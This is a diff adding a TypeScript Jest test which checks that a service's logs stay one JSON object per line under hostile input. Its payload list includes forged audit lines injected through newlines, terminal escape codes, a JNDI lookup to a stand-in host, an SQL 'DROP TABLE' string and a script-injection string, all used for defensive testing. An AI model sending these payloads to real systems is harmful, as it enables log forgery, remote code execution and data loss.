@@ -1,0 +1,168 @@
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import type { HttpBrowser } from '../../local/lib/http-browser.ts';
+import { Claim } from '../support/assurance.ts';
+import { obedientModel } from '../support/obedient-model.ts';
+import { send } from '../support/send.ts';
+import { tokenOf } from '../support/tokens.ts';
+import { connectUrlOf, World } from '../support/world.ts';
+
+const FORGED = '{"stream":"audit","event":"bound","user":"mallory"}';
+/** What ends a line somewhere, moves a terminal's cursor, or looks like a line of ours. */
+const HOSTILE = [
+  `\n${FORGED}\n`,
+  `\r\n${FORGED}\r\n`,
+  `\r${FORGED}`,
+  `\u2028${FORGED}\u2029`,
+  `\u0085${FORGED}`,
+  `"}\n${FORGED}`,
+  `\\"}\\n${FORGED}`,
+  '\u0000',
+  '\u001b[2J\u001b[1;31m',
+  '\u0008\u0008\u0008',
+  '\u202e',
+  '\ud800',
+  '\udfff\ud800',
+  '%0a%0d',
+  '${jndi:ldap://evil.example}',
+  '%s%n%x',
+  '\ufeff',
+  '\u{1f642}'.repeat(50),
+  'x'.repeat(20_000),
+  "'; DROP TABLE logs; --",
+  '</script><script>alert(1)</script>',
+  '{{7*7}}',
+  '\t\v\f',
+];
+
+describe('the log', () => {
+  let world: World;
+  let alice: HttpBrowser;
+  beforeAll(async () => {
+    world = await World.start({ model: obedientModel }, { environment: { LOG_LEVEL: 'trace' } });
+    alice = await world.signIn('alice@example.com');
+    const paused = await world.ask(alice, 'start', 'CALL get_github_user {} END');
+    await world.consent(alice, connectUrlOf(paused), 'alice-octo');
+  });
+  afterAll(() => world.close());
+
+  const post = (body: unknown, headers: Readonly<Record<string, string>> = {}): Promise<unknown> =>
+    alice.request(`${world.url}/invocations`, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json', ...headers },
+      body: typeof body === 'string' ? body : JSON.stringify(body),
+    });
+
+  /** One hostile text, in every field that a client, a model or an upstream fills in. */
+  const everywhere = async (text: string, index: number): Promise<void> => {
+    const sessionId = `log-${String(index)}`;
+    const { gitHub, agentCoreIdentity, bedrock, s3 } = world.stack;
+    const inHeader = text.replaceAll(/[^\x20-\x7e\x80-\xff]/g, '?').slice(0, 4_000);
+    await post(
+      { sessionId, message: text },
+      { 'user-agent': inHeader, 'x-request-id': inHeader, 'x-amzn-trace-id': inHeader, referer: inHeader },
+    );
+    await post({ sessionId: text, message: 'x' });
+    await post({ sessionId, message: 'x', [text]: text });
+    await post({ threadId: sessionId, runId: text, messages: [{ id: text, role: 'user', content: text }] });
+    await post({ sessionId, resume: [{ interruptId: text, status: 'resolved', payload: text }] });
+    await post(text);
+    await post({
+      sessionId,
+      message: `CALL ${text.replaceAll(/\W/g, '') || 'x'} ${JSON.stringify({ [text]: text })} END`,
+    });
+    await post({
+      sessionId,
+      message: `CALL list_github_repos ${JSON.stringify({ sort: text })} END SAY ${text} END`,
+    });
+    const echo = {
+      message: text,
+      login: text,
+      name: text,
+      bio: text,
+      public_repos: 1,
+      followers: 1,
+      created_at: text,
+      html_url: text,
+    };
+    const answer = (status: number) =>
+      ({
+        kind: 'answer',
+        status,
+        headers: {
+          'x-amzn-errortype': 'ValidationException',
+          'x-amzn-requestid': inHeader.slice(0, 200),
+          'x-oauth-scopes': 'read:user',
+        },
+        body: JSON.stringify(echo),
+      }) as const;
+    for (const [faults, path] of [
+      [gitHub.faults, /api\/v3/],
+      [agentCoreIdentity.faults, /oauth2\/token/],
+      [bedrock.faults, /converse/],
+      [s3.faults, /GET/],
+    ] as const) {
+      for (const status of [200, 400, 500]) {
+        const planned = faults.plan(path, answer(status), 1);
+        await post({ sessionId, message: 'CALL get_github_user {} END' });
+        planned.remaining = 0;
+      }
+    }
+    const encoded = encodeURIComponent(text.toWellFormed()).slice(0, 8_000);
+    const claims = { sub: 'subject', name: text, email: text, preferred_username: text };
+    const signedIn = [
+      ['x-amzn-oidc-data', tokenOf(world.stack, { payload: claims })],
+      ['accept', 'text/html'],
+    ] as const;
+    for (const path of [
+      `/${encoded}`,
+      `/sessions/${encoded}`,
+      `/sessions?limit=${encoded}`,
+      `/docs/${encoded}`,
+    ])
+      await send(world.roles.agent.url, path, { headers: signedIn });
+    for (const path of [
+      `/oauth2/connect?ticket=${encoded}`,
+      `/oauth2/session-binding?session_id=${encoded}&state=${encoded}&error=${encoded}`,
+      `/${encoded}`,
+    ]) {
+      await send(world.roles.sessionBinding.url, path, { headers: signedIn });
+    }
+    const refused = tokenOf(world.stack, {
+      header: { kid: text.slice(0, 900), signer: text.slice(0, 900) },
+      payload: { sub: text.slice(0, 900) },
+    });
+    for (const role of [world.roles.agent, world.roles.sessionBinding])
+      await send(role.url, '/sessions', { headers: [['x-amzn-oidc-data', refused]] });
+  };
+
+  it('row 21: has one JSON object a line, whatever is in any field', async () => {
+    for (const [index, text] of HOSTILE.entries()) await everywhere(text, index);
+    const claim = new Claim(
+      21,
+      'hostile texts, each in every field that anybody fills in: one JSON object a line',
+      HOSTILE.length,
+    );
+    for (const text of HOSTILE) claim.check(JSON.stringify(text.slice(0, 40)), true);
+    let forged = 0;
+    for (const role of [world.roles.agent, world.roles.sessionBinding]) {
+      const lines = role.output().trimEnd().split('\n');
+      expect(lines.length).toBeGreaterThan(HOSTILE.length);
+      for (const line of lines) {
+        const object = parsed(line);
+        if (object === undefined) claim.check(`no JSON object: ${line.slice(0, 200)}`, false);
+        if (object?.stream === 'audit' && object.user === 'mallory') forged += 1;
+      }
+    }
+    claim.check(`${String(forged)} forged lines`, forged === 0);
+    claim.finish();
+  }, 120_000);
+});
+
+function parsed(line: string): Readonly<Record<string, unknown>> | undefined {
+  try {
+    const value: unknown = JSON.parse(line);
+    return typeof value === 'object' && value !== null && 'stream' in value ? value : undefined;
+  } catch {
+    return undefined;
+  }
+}
